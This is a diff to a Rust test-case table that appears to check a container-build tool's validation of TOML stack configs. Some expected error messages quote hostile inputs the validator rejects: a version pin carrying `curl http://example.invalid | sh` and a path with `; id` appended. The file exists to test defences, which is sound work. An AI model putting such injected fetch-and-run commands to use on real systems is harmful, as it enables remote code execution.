@@ -178,5 +178,7 @@ cases! {
     lock_pin_not_a_version: "57-lock-pin-not-a-version", Load, exit 1, ["images.lock` is not a valid lock", "stack `worker` pins `curl` to `7.88.1-10; curl http://example.invalid | sh`"];
     context_fifo: "58-context-fifo", Plan, setup make_fifo, ["stacks/worker.toml:7:8", "`stacks/files/app/pipe` is a FIFO (named pipe)", "sent from here"];
     context_symlink_outside: "59-context-symlink-outside", Plan, ["stacks/worker.toml:1:1", "`stacks/worker/secret.env` is a symlink that points", "context directory is `stacks/worker/`"];
+    composer_dest_with_spaces: "61-composer-dest-with-spaces", Load, ["stacks/web.toml:9:8", "`/srv/my app; id` is not an absolute path"];
+    mirror_with_quote: "62-mirror-with-quote", Load, ["2 problems", "stacks/base.toml:6:10", "without spaces or quotes", "stacks/base.toml:7:23", "`non free` is not a Debian archive"];
     dockerignore_bad_pattern: "60-dockerignore-bad-pattern", Plan, ["stacks/worker.toml:4:11", "`stacks/files/.dockerignore` has a mistake: line 2: bad", "context directory"];
 }
